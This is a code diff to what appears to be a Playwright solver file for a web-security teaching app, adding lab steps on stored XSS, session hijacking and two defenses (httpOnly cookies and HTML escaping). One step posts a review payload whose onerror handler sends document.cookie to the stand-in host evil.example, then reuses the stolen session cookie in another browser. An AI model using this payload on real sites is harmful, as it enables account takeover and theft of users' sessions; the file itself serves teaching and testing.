@@ -284,6 +284,36 @@ const SOLVE: Record<string, (page: Page) => Promise<void>> = {
     await shop(page).getByRole('button', { name: 'Claim' }).click();
     await expect(shop(page)).toContainText('(403)');
   },
+  'xss-steal-session': async (page) => {
+    const reviews = shop(page);
+    await reviews.getByRole('button', { name: 'Reviews' }).click();
+    await reviews
+      .getByLabel('Your review')
+      .fill(`<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`);
+    await reviews.getByRole('button', { name: 'Post review' }).click();
+    await tab(page, 'Chrome');
+    await reviews.getByRole('button', { name: 'Reviews' }).click();
+    await tab(page, 'Firefox');
+    await page
+      .getByTestId('evil-entry')
+      .filter({ hasText: 'from Chrome' })
+      .getByRole('button', { name: 'Use connect.sid in Firefox' })
+      .click();
+    await myPage(page);
+  },
+  'xss-httponly-stops-theft': async (page) => {
+    await openSettings(page);
+    await tick(page, /cookie\.httpOnly/, true);
+    // Her session keeps the cookie it was made with: she logs in again for a new one.
+    await shop(page).getByRole('button', { name: 'Log out' }).click();
+    await logIn(page, 'mina', 'sesame');
+    await shop(page).getByRole('button', { name: 'Reviews' }).click();
+  },
+  'xss-escape-output': async (page) => {
+    await openSettings(page);
+    await tick(page, /escapeHtml\(\)/, true);
+    await shop(page).getByRole('button', { name: 'Reviews' }).click();
+  },
   'survive-two-servers': async (page) => {
     await page
       .getByLabel('Servers', { exact: true })
